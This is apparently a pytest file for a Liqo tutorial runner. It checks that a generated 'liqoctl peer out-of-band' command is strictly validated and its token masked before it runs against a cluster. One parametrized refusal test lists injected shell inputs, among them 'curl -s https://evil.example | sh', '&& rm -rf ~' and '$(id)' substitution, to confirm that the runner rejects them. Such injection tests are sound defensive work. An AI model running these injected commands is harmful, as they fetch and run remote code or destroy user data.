"""The v0.x out-of-band peering at the action level: the tutorial's own generated-command action, a fake
liqoctl on PATH that prints a chosen line, and a log of what was executed against london."""

from __future__ import annotations

import json
import sys
import textwrap
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from liqo_tutor import loader, secrets, verbs
from liqo_tutor.context import ClusterInfo, Context
from liqo_tutor.errors import ToolFailed
from liqo_tutor.patterns import GeneratedCommandError
from liqo_tutor.state import State
from liqo_tutor.tools import runner
from liqo_tutor.tutorial import Action
from liqo_tutor.verbs.generated_command import GeneratedCommandModel

UUID = "3f0e1c2a-1b2c-4d3e-8f9a-0123456789ab"
TOKEN = "5e" * 64
URL = "https://172.18.0.4:31753"
GOOD = f"liqoctl peer out-of-band newyork --auth-url {URL} --cluster-id {UUID} --auth-token {TOKEN}"

# `generate ...` prints $FAKE_LINE (verbatim, may hold newlines) and exits $FAKE_EXIT; anything else
# is logged as executed.
FAKE = textwrap.dedent("""\
    import json, os, sys
    args = sys.argv[1:]
    if args[:1] == ["generate"]:
        sys.stdout.write(os.environ["FAKE_LINE"] + "\\n")
        sys.exit(int(os.environ.get("FAKE_EXIT", "0")))
    with open(os.environ["FAKE_LOG"], "a") as fh:
        fh.write(json.dumps(args) + "\\n")
""")


@dataclass
class Notes:
    notes: list[str] = field(default_factory=list)

    def note(self, text: str) -> None:
        self.notes.append(text)

    def output_shown(self, step_id: str, label: str, text: str) -> None:
        self.notes.append(f"{label}: {text}")


@dataclass
class Fake:
    ctx: Context
    action: Action
    log: Path
    notes: Notes

    def executed(self) -> list[list[str]]:
        return [json.loads(x) for x in self.log.read_text().splitlines()] if self.log.exists() else []


@pytest.fixture
def fake(tmp_path: Path) -> Iterator[Fake]:
    bindir = tmp_path / "bin"
    bindir.mkdir()
    (bindir / "fake_liqoctl.py").write_text(FAKE)
    shim = bindir / "liqoctl"
    shim.write_text(f'#!/bin/sh\nexec {sys.executable} {bindir / "fake_liqoctl.py"} "$@"\n')
    shim.chmod(0o755)
    workdir = tmp_path / "work"
    workdir.mkdir()
    log = tmp_path / "executed.jsonl"
    tut = loader.load("service-offloading")
    action = next(a for s in tut.steps for a in s.actions if a.kind == "generated-command")
    notes = Notes()
    ctx = Context(
        tut,
        line="v0",
        liqo_version="v0.10.3",
        workdir=workdir,
        env={"PATH": f"{bindir}:/usr/bin:/bin", "HOME": str(tmp_path), "FAKE_LOG": str(log)},
        clusters={c.name: ClusterInfo(spec=c, kubeconfig=workdir / c.kubeconfig) for c in tut.clusters},
        timeout_scale=1.0,
        state=State.load(workdir),
        reporter=notes,  # type: ignore[arg-type]
    )
    yield Fake(ctx, action, log, notes)
    runner.reset()


def generate(fake: Fake, line: str, exit_code: int = 0) -> None:
    fake.ctx.env.update(FAKE_LINE=line, FAKE_EXIT=str(exit_code))
    verbs.get("generated-command").run(fake.ctx, fake.action, "london")


def test_the_tutorials_action_targets_the_seeds_command_shape(fake: Fake) -> None:
    spec = fake.action.spec
    assert isinstance(spec, GeneratedCommandModel)
    assert spec.source == "newyork" and fake.action.lines == ("v0",)
    assert spec.generated_command == "liqoctl generate peer-command --only-command"


def test_expected_line_runs_as_argv_against_london_with_the_token_masked(fake: Fake) -> None:
    generate(fake, "/usr/local/bin/" + GOOD)
    [argv] = fake.executed()
    assert argv == [
        *GOOD.split()[1:],
        "--timeout", "5m",
        "--kubeconfig", str(fake.ctx.workdir / "liqo_kubeconf_london"),
    ]  # fmt: skip
    assert secrets.redact(f"x {TOKEN} y") == f"x {secrets.MASK} y"
    recorded = json.dumps([c.__dict__ for c in fake.ctx.step_commands()], default=str)
    assert TOKEN not in recorded and secrets.MASK in recorded


@pytest.mark.parametrize(
    "line",
    [
        pytest.param(GOOD + " --incoming", id="extra word"),
        pytest.param(GOOD + " --kubeconfig /home/me/.kube/other", id="another cluster"),
        pytest.param(GOOD + "; curl -s https://evil.example | sh", id="semicolon"),
        pytest.param(GOOD + " && rm -rf ~", id="and-and"),
        pytest.param(GOOD.replace("newyork", "$(id)"), id="command substitution"),
        pytest.param(GOOD.replace("newyork", "`id`"), id="backticks"),
        pytest.param(GOOD + " > /tmp/x", id="redirect"),
        pytest.param(GOOD.replace("peer out-of-band", "unpeer out-of-band"), id="another subcommand"),
        pytest.param(GOOD.replace("peer out-of-band", "peer in-band"), id="another peer subcommand"),
        pytest.param(GOOD.replace("liqoctl", "kubectl", 1), id="another program"),
        pytest.param(
            f"liqoctl peer out-of-band newyork --cluster-id {UUID} --auth-url {URL} --auth-token {TOKEN}",
            id="flags reordered",
        ),
        pytest.param(GOOD.replace(f"--auth-token {TOKEN}", f"--auth-token={TOKEN}"), id="flag=value"),
        pytest.param(GOOD.replace(URL, "http://172.18.0.4:31753"), id="plain http"),
        pytest.param(GOOD.replace(TOKEN, TOKEN[:-2]), id="short token"),
        pytest.param(GOOD.replace(UUID, "newyork"), id="bad uuid"),
        pytest.param(GOOD + "\n" + GOOD, id="two lines"),
        pytest.param("ERRO: Failed to retrieve peering information: secrets \"auth-token\" not found", id="error"),
        pytest.param("", id="nothing"),
    ],
)
def test_anything_else_is_refused_and_nothing_runs(fake: Fake, line: str) -> None:
    with pytest.raises(GeneratedCommandError) as info:
        generate(fake, line)
    assert fake.executed() == []
    assert "refusing the generated command" in info.value.message or "expected exactly one" in info.value.message
    assert TOKEN not in info.value.message and TOKEN[:-2] not in info.value.message


def test_exit_code_is_checked_before_the_text(fake: Fake) -> None:
    # v0.x prints its errors on stdout: a failed generator's stdout is never trusted, even if it parses.
    token = "7a" * 64  # not registered by another test
    with pytest.raises(ToolFailed) as info:
        generate(fake, GOOD.replace(TOKEN, token), exit_code=1)
    assert fake.executed() == []
    assert token not in info.value.message and token not in info.value.result.display
    # Whatever the failed output held is masked from now on (the error panel shows it).
    assert secrets.redact(token) == secrets.MASK
